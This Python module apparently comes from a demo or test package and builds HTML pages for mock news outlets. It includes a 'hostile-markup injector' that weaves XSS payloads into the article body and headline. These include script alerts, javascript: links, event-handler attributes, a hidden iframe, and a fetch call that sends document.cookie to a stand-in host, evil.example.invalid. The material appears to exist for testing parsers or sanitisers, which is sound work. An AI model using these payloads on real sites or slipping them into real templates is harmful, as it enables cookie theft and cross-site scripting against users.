"""The <html>/<head> wrapper shared by the outlet shells, and the hostile-markup injector."""

from __future__ import annotations

from html import escape

from jarida.demo.templates.parts import icon_sprite, page_state, style_block, tracking_scripts
from jarida.demo.templates.view import ArticleView, Chrome


def document(chrome: Chrome, body: str, prefix: str, accent: str, feed_href: str = "") -> str:
    """A full HTML document: charset, title, alternate feed link, styles, trackers, body."""
    rtl = chrome.lang == "ar"
    attrs = f'lang="{chrome.lang}"' + (' dir="rtl"' if rtl else "")
    alt = ""
    if feed_href:
        alt = (f'<link rel="alternate" type="application/rss+xml" '
               f'title="{escape(chrome.outlet.name)}" href="{escape(feed_href)}">')
    charset = f'<meta charset="{chrome.charset_meta}">' if chrome.charset_meta else ""
    return (
        f"<!DOCTYPE html>\n<html {attrs}>\n<head>{charset}\n"
        '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
        f"<title>{escape(chrome.page_title)} | {escape(chrome.outlet.name)}</title>\n"
        f"{chrome.head_extra}\n{alt}\n"
        f'<link rel="icon" href="{chrome.base}/favicon.ico">\n'
        f"{style_block(prefix, accent)}\n{tracking_scripts(chrome.outlet.slug)}\n"
        f'</head>\n<body class="{prefix}-body">\n{icon_sprite()}\n{body}\n'
        f"{page_state(chrome)}\n</body>\n</html>\n"
    )


HOSTILE_TITLE = "<script>alert('title')</script>"
HOSTILE_BLOCKS = (
    '<p>Read more <a href="javascript:alert(document.cookie)">here</a>'
    '<img src="/missing.png" onerror="alert(\'img\')"></p>',
    '<iframe src="http://evil.example.invalid/frame" width="1" height="1"></iframe>',
    "<script>fetch('http://evil.example.invalid/steal?c='+document.cookie)</script>",
    '<div onclick="alert(1)" style="position:fixed;top:0">Subscribe now!</div>'
    '<svg onload="alert(\'svg\')"><circle r="2"/></svg>',
    '<object data="javascript:alert(2)"></object><form action="javascript:alert(3)">'
    '<input type="submit" value="Win"></form>',
)


def body_html(view: ArticleView, tag: str = "p") -> str:
    """The paragraphs, with hostile markup woven in for the hostile outlet."""
    out = []
    for i, para in enumerate(view.paragraphs):
        out.append(f"<{tag}>{escape(para)}</{tag}>")
        if view.hostile and i < len(HOSTILE_BLOCKS):
            out.append(HOSTILE_BLOCKS[i])
    return "\n".join(out)


def headline(view: ArticleView) -> str:
    """The title as it goes in <h1>; the hostile outlet leaves a script in it."""
    text = escape(view.title)
    return f"{text}{HOSTILE_TITLE}" if view.hostile else text
